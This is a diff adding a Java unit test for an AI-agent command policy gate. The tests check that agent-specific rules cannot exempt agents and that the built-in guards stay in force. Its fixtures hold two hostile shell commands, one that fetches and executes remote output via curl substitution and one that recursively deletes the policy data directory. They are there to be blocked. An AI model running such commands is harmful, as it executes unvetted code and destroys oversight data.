@@ -1,0 +1,100 @@
+// SPDX-License-Identifier: Apache-2.0
+package dev.indelible.policy;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import dev.indelible.action.AgentAction;
+import dev.indelible.action.Bash;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+/** An agent's id is a claim: a rule may restrict an agent by it, and exempts none. */
+class AgentRulesTest {
+  private static final AgentAction LIST = new Bash("ls");
+  private static final AgentAction OPAQUE = new Bash("$(curl -s http://example.org)");
+  private static final AgentAction GUARD = new Bash("rm -rf /w/indelible-data/policy");
+
+  @Test
+  void ruleRestrictsTheNamedAgents() throws Exception {
+    RulePolicy policy = policy("agents: [\"agent:bot*\"]", "command: ls");
+    assertThat(policy.decide("agent:bot-1", LIST).isPermitted()).isFalse();
+    assertThat(policy.decide("agent:alice", LIST).isPermitted()).isTrue();
+  }
+
+  @Test
+  void claimedIdIsNotExcepted() throws Exception {
+    RulePolicy policy = policy("except: [\"agent:*\"]", "command: ls");
+    assertThat(policy.rules().get(0).settings().except()).containsExactly("agent:*");
+    assertThat(policy.decide("agent:bot", LIST).isPermitted()).isFalse();
+  }
+
+  /** Agents in any form that could read as an exemption name those agents, and exempt nobody. */
+  @ParameterizedTest
+  @CsvSource({"!agent:bot", "-agent:bot", "'!*'"})
+  void globExemptsNobody(String glob) throws Exception {
+    RulePolicy policy =
+        RulePolicy.parse(
+            """
+            version: 1
+            rules:
+              - {id: A, severity: refuse, reason: all, when: {command: ls}}
+              - {id: B, severity: log, reason: some, agents: ["%s"], when: {command: ls}}
+            """
+                .formatted(glob),
+            "test");
+    assertThat(policy.decide("agent:bot", LIST).ruleId()).contains("A");
+  }
+
+  /** A rule that is not for everyone leaves the gate's own rules in their place. */
+  @ParameterizedTest
+  @CsvSource({
+    "'agents: [\"agent:bot\"]'",
+    "'agents: [\"*\"]'",
+    "mode: shadow",
+    "expires: \"2020-01-01\"",
+    "expires: \"9999-01-01\""
+  })
+  void ownRulesStayForOthers(String setting) throws Exception {
+    RulePolicy policy =
+        RulePolicy.parse(
+            """
+            version: 1
+            rules:
+              - id: W
+                severity: warn
+                reason: careful
+                %s
+                when: [{changes_guard: any}, {opaque: any}]
+            """
+                .formatted(setting),
+            "test");
+    for (String agent : new String[] {"agent:bot", "agent:alice"}) {
+      assertThat(policy.decide(agent, GUARD).ruleId()).as(agent).contains(RulePolicy.GUARD);
+      assertThat(policy.decide(agent, OPAQUE).isBlocking()).as(agent).isTrue();
+    }
+  }
+
+  @Test
+  void badGlobDoesNotLoad() {
+    assertThatThrownBy(() -> policy("except: [\"a[\"]", "command: ls"))
+        .isInstanceOf(PolicyException.class)
+        .hasMessageStartingWith("test, line 6, column 5:");
+  }
+
+  private static RulePolicy policy(String setting, String when) throws PolicyException {
+    return RulePolicy.parse(
+        """
+        version: 1
+        rules:
+          - id: R
+            severity: refuse
+            reason: no
+            %s
+            when: {%s}
+        """
+            .formatted(setting, when),
+        "test");
+  }
+}
